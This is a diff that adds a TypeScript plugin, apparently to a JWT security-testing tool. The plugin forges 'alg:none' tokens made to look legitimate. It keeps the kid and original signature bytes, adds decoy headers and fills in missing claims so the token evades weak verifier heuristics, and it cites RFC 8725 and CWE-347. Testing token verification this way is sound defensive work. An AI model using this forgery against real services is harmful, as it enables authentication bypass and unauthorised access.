@@ -0,0 +1,108 @@
+/**
+ * Plausible alg:none
+ *
+ * An alg:none token built to look as legitimate as possible: the original
+ * `kid` and `typ` stay in the header (plus any configured decoy fields),
+ * the claim set is completed with `jti`, `iat`, `nbf` and `exp` if any are
+ * missing, and by default the original signature bytes are kept so the
+ * token still has three non-empty segments. It slips past heuristics such
+ * as "has a kid, so it must be signed" or "reject alg:none only if the
+ * token looks incomplete" - only a proper algorithm allowlist stops it.
+ *
+ * Spec: RFC 8725 Section 3.1 - Algorithms MUST NOT include "none"
+ * CWE-347: Improper Verification of Cryptographic Signature
+ */
+
+import { randomUUID } from "../../core/random.js";
+import type { MischiefPlugin } from "../types.js";
+
+type SignatureMode = "original" | "empty";
+
+export const algNonePartial: MischiefPlugin = {
+	id: "alg-none-partial",
+	name: "Plausible Algorithm None",
+	severity: "critical",
+	phase: "token-signing",
+
+	spec: {
+		rfc: "RFC 8725 Section 3.1",
+		cwe: "CWE-347",
+		description: "alg MUST be checked against an allowlist, however plausible the rest looks",
+	},
+
+	description: "alg:none with a legitimate-looking kid, header and complete claim set",
+
+	options: [
+		{
+			name: "signature",
+			type: "string",
+			values: ["original", "empty"],
+			default: "original",
+			description: "Keep the original signature bytes, or leave the segment empty",
+		},
+		{
+			name: "decoyHeader",
+			type: "object",
+			default: {},
+			description: "Extra header parameters that make the token look signed",
+		},
+	],
+
+	async apply(ctx) {
+		if (!ctx.token) {
+			return { applied: false, mutation: "No token context", evidence: {} };
+		}
+
+		const signatureMode = (ctx.config.signature as SignatureMode | undefined) ?? "original";
+		const decoyHeader = (ctx.config.decoyHeader as Record<string, unknown> | undefined) ?? {};
+		const { header, claims } = ctx.token;
+		const originalAlg = header.alg;
+
+		header.alg = "none";
+		if (header.typ === undefined) {
+			header.typ = "JWT";
+		}
+		if (header.kid === undefined) {
+			header.kid = "loki-signing-key-1";
+		}
+		for (const [name, value] of Object.entries(decoyHeader)) {
+			if (name !== "alg") {
+				header[name] = value;
+			}
+		}
+
+		// Fill whatever a "complete" token is expected to carry
+		const now = Math.floor(Date.now() / 1000);
+		const filled: string[] = [];
+		const defaults: Record<string, unknown> = {
+			jti: randomUUID(),
+			iat: now,
+			nbf: typeof claims.iat === "number" ? claims.iat : now,
+			exp: (typeof claims.iat === "number" ? claims.iat : now) + 3600,
+		};
+		for (const [name, value] of Object.entries(defaults)) {
+			if (claims[name] === undefined) {
+				claims[name] = value;
+				filled.push(name);
+			}
+		}
+
+		let mutation = `Changed alg from '${originalAlg}' to 'none' keeping kid '${header.kid}'`;
+		if (signatureMode === "empty") {
+			ctx.token.signature = "";
+		} else {
+			mutation += " and the original signature bytes";
+		}
+
+		return {
+			applied: true,
+			mutation,
+			evidence: {
+				originalAlg,
+				header: { ...header },
+				filledClaims: filled,
+				signature: signatureMode,
+			},
+		};
+	},
+};